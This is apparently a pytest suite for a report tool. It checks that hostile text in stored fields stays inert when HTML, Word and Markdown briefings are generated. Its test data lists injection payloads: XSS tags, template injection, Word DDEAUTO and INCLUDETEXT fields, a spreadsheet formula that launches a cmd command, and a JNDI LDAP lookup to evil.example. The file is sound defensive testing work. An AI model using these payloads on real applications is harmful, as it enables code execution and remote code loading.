"""Hostile texts in every field: in no format of a briefing are they markup, fields or formulas.

A briefing of a store with hostile texts must be built exactly as one of the same store with plain
words: the same elements in the same order, whatever stands in them.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from lxml import etree
from markdown_it import MarkdownIt

from conftest import Hemidef, make_store
from faults.texts import texts
from hemidef.model.fields import Field
from hemidef.model.kinds import INDICATOR, INITIATIVE, KINDS, MILESTONE, RECOMMENDATION
from hemidef.visible import visible
from pages import parse, parts_of_document, texts_of_document

MARKUP = [
    "<script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<!-- <![CDATA[ ]]>",
    "]]><w:p/>&amp;&lt;&#60;",
    "&lt;b&gt; &nbsp; &copy",
    "{{ 7*7 }} {% raw %} {# x #}",
    "{% endraw %}{{ title.__class__ }}",
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
    '{ INCLUDETEXT "http://evil.example/x" }',
    "=cmd|' /C calc'!A0",
    "+1+1 @SUM(A1)",
    "# Heading #",
    "> quotation",
    "- a list",
    "12. a list",
    "+ a list",
    "| a | b |",
    "--- | ---",
    "===",
    "``` code",
    "~~~ code",
    "`code` ``more``",
    "*star* **bold** _under_ __line__",
    "~~struck~~ ~one~",
    "[a](javascript:alert(1))",
    "![a](http://evil.example/x.png)",
    "<http://evil.example> <a@evil.example>",
    "[a]: http://evil.example",
    "[^1]: note [^1]",
    "url(http://evil.example) @import 'x'; } body { color: red",
    "\\ \\\\ \\* \\<b>",
    "    four blanks",
    "a\\",
    "${jndi:ldap://evil.example} %s {0}",
    "\u202egpj.exe \u200b\u2066x",
    "\x1b[31m \x00 \x9b \ufffe \uffff",
    '<w:fldSimple w:instr="DATE"/> <?php ?> <%= %>',
]
NOW = "2026-11-24T08:30:00.000Z"


def fill(store: Path, say: Callable[[int], str]) -> None:
    """A store in which every text is what ``say`` has for the next number."""
    number = 0

    def next_text() -> str:
        nonlocal number
        number += 1
        return say(number)

    def value(field: Field) -> Any:
        text = next_text()
        return [text] if field.many else text

    entries: dict[str, dict[str, Any]] = {}
    log = []
    fixed = {
        "created": NOW,
        "category": None,
        "priority": "high",
        "due": "2026-10",
        "start": "2026-01",
        "baseline": "1",
        "target": "9",
        "actual": "4",
        "supports": ["I-1"],
        "initiative": "I-1",
    }
    for kind in KINDS:
        names = {field.name for field in kind.fields}
        for at in range(1, 21 if kind == INITIATIVE else 6):
            doc = {field.name: value(field) for field in kind.fields if field.is_words}
            doc |= {
                name: held for name, held in fixed.items() if name in names or name == "created"
            }
            doc |= {
                "category": {INITIATIVE: "initiative", RECOMMENDATION: "recommendation"}.get(kind),
                "status": {INITIATIVE: "stalled", RECOMMENDATION: "open"}.get(kind),
                "response": "noted" if kind == RECOMMENDATION else None,
                "own": next_text() if kind == INITIATIVE else None,
            }
            entries[f"{kind.letter}-{at}"] = {n: held for n, held in doc.items() if held}
    assert {INDICATOR, MILESTONE} < {*KINDS}
    for change in range(1, 21):
        log.append(
            {
                "change": change,
                "key": str(change),
                "at": NOW,
                "by": next_text(),
                "verb": "update",
                "id": f"I-{change}",
                "changes": {"lead": [next_text(), entries[f"I-{change}"]["lead"]]},
                "note": next_text(),
            }
        )
    entries["V-1"] = {
        "name": "hostile",
        "title": next_text(),
        "kind": "initiative",
        "sort": "id",
        "columns": [f"title={next_text()}", "lead", "own"],
        "created": NOW,
    }
    entries["F-1"] = {
        "name": "own",
        "on": ["initiative"],
        "type": "text",
        "label": next_text(),
        "holds": "one",
        "created": NOW,
    }
    make_store(store, entries, log)


def plain(number: int) -> str:
    return f"plain words {number}"


def hostile(some: list[str]) -> Callable[[int], str]:
    """Each text once as it is, then with a number, so that no two are one."""
    return lambda number: f"{some[number % len(some)]} {number // len(some) or ''}".rstrip()


# As many with those above as is a prime: each of them comes to stand in every field.
SOME = [each for each in texts(60) if "\n" not in visible(each) and visible(each).strip()][:21]


@pytest.fixture(params=[0, 7, 13])
def both(request: pytest.FixtureRequest, hemidef: Hemidef, home: Path) -> Callable[..., Any]:
    """A briefing of hostile texts and one of plain words; the texts are moved on by the number."""

    def write(ending: str, *words: str) -> tuple[bytes, bytes]:
        found = []
        asked = ("--view", "hostile", "--view", "recommendations", "--all", "--since", "2d", *words)
        for say in (hostile([*MARKUP[request.param :], *SOME, *MARKUP[: request.param]]), plain):
            fill(home / "hemidef.json", say)
            name = say(1)
            answer = hemidef(
                "report",
                "-o",
                f"brief.{ending}",
                *asked,
                f"--title={name}",
                env={"HEMIDEF_USER": name},
            )
            assert answer.code == 0, answer.err
            found.append(Path(f"brief.{ending}").read_bytes())
        return found[0], found[1]

    return write


def test_there_are_texts_of_every_sort() -> None:
    assert len(MARKUP) == 40
    assert len(MARKUP + SOME) == 61


def test_no_text_is_markup_on_the_page(both: Callable[..., Any]) -> None:
    bad, good = (each.decode() for each in both("html"))
    built = [
        [(node.tag, [*node.attributes], node.attributes.get("class")) for node in parse(page).all()]
        for page in (bad, good)
    ]
    assert built[0] == built[1]
    assert not [char for char in bad if not char.isprintable() and char != "\n"]
    style = re.compile("<style>.*?</style>", re.DOTALL)
    assert style.findall(bad) == style.findall(good)
    shown = parse(bad).text
    for text in MARKUP:
        assert visible(text).strip() in shown


def test_no_text_is_markup_or_a_field_in_word(both: Callable[..., Any]) -> None:
    bad, good = both("docx")
    parts, plain_parts = parts_of_document(bad), parts_of_document(good)
    assert parts.keys() == plain_parts.keys()
    for name, xml in parts.items():
        root, expected = (etree.fromstring(each[name].encode()) for each in (parts, plain_parts))
        assert [each.tag for each in root.iter()] == [each.tag for each in expected.iter()], name
        codes = [[each.text for each in tree.iter("{*}instrText")] for tree in (root, expected)]
        assert codes[0] == codes[1]
        if name.endswith(".rels"):
            assert xml == plain_parts[name]
    shown = texts_of_document(bad)
    for text in MARKUP:
        assert visible(text).strip() in shown


def test_no_text_is_markup_in_markdown(both: Callable[..., Any]) -> None:
    bad, good = (each.decode() for each in both("md"))
    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    built = []
    for text in (bad, good):
        kinds = []
        for token in reader.parse(text):
            inside = [each.type for each in token.children or ()]
            # A sign that stands for itself, as &lt; and \*, is a text too.
            kinds.append((token.type, token.tag, [k for k in inside if k not in _TEXTS]))
        built.append(kinds)
    assert built[0] == built[1]
    assert not [char for char in bad if not char.isprintable() and char != "\n"]
    shown = "\n".join(
        "".join(each.content for each in token.children)
        for token in reader.parse(bad)
        if token.children
    )
    for text in MARKUP:
        assert visible(text).strip() in shown


_TEXTS = ("text", "text_special")


def test_names_of_files_are_safe(hemidef: Hemidef, home: Path) -> None:
    fill(home / "hemidef.json", hostile([*MARKUP, *SOME]))
    Path("out").mkdir()
    before = {*home.iterdir()}
    answer = hemidef("report", "-o", "out/brief.md", "--per", "lead", "--section", "figures")
    assert answer.code == 0, answer.err
    assert {*home.iterdir()} == before
    names = [path.name for path in Path("out").iterdir()]
    assert len(names) == len({name.casefold() for name in names}) >= 25
    for name in names:
        assert re.fullmatch(r"brief-[^\x00-\x20<>:\"/\\|?*.]+\.md", name), name
        assert len(name.encode()) <= 255
